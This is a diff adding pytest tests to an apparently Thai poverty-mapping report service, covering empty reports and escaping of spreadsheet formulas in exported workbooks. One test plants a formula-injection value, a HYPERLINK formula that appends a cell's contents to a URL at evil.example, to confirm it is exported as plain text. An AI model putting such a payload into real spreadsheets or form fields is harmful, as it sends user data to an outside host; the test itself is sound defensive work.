@@ -282,3 +282,55 @@ def test_no_report_shows_a_full_national_id(client: Any, people: Any) -> None:
                 reader = PdfReader(io.BytesIO(r.content))
                 text = "".join(p.extract_text() or "" for p in reader.pages)
             assert not re.search(r"(?<!\d)\d{13}(?!\d)", text), (kind, area, fmt)
+
+
+@pytest.mark.parametrize("kind", ["register", "mpi", "assistance", "households"])
+@pytest.mark.parametrize("fmt", ["xlsx", "pdf"])
+def test_a_report_with_no_rows_is_a_valid_report(
+    client: Any, people: Any, kind: str, fmt: str
+) -> None:
+    # Hua Ruea (340104) has no household in the persona warehouse and no Logbook work.
+    r = get(client, people["mentor"], f"/reports/{kind}/340104.{fmt}", month="2567-01")
+    assert r.status_code == 200
+    if fmt == "xlsx":
+        rows = sheet(r.content)
+        data = body(rows)
+        if kind == "households":  # a list has no totals row
+            assert data == []
+        else:
+            width = len(rows[HEADER_ROW - 1])
+            label_cols = {"register": 2, "mpi": 4, "assistance": 1}[kind]
+            assert data == [["รวม", *[""] * (label_cols - 1), *[0] * (width - label_cols)]]
+    else:
+        from pypdf import PdfReader
+
+        text = "".join(p.extract_text() or "" for p in PdfReader(io.BytesIO(r.content)).pages)
+        assert "พื้นที่" in text
+    from tpmap.accounts.models import AuditEvent
+
+    assert list(AuditEvent.objects.values_list("object_id", "after")) == [
+        (f"340104.{fmt}", {"format": fmt, "rows": 0})
+    ]
+
+
+def test_an_agency_typed_as_a_formula_is_a_text_in_the_workbook(client: Any, people: Any) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&B1,"คลิก")'
+    Problem.objects.create(
+        year=YEAR,
+        household_id=H1,
+        village_code=VILLAGE[H1],
+        created_by=people["district"],
+        title="ไม่มีงานทำ",
+        performer="ทีม",
+        agency=hostile,
+        occurred_on=date(2024, 1, 5),
+    )
+    r = get(client, people["district"], "/reports/assistance/3401.xlsx", month="2567-01")
+    sheet_xml = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml
+    ws = load_workbook(io.BytesIO(r.content)).active
+    assert ws is not None
+    agency = ws.cell(row=HEADER_ROW + 1, column=1)
+    assert (agency.value, agency.data_type, agency.quotePrefix) == (hostile, "s", True)
+    count = ws.cell(row=HEADER_ROW + 1, column=2)
+    assert (count.value, count.data_type) == (1, "n")  # numbers stay numbers
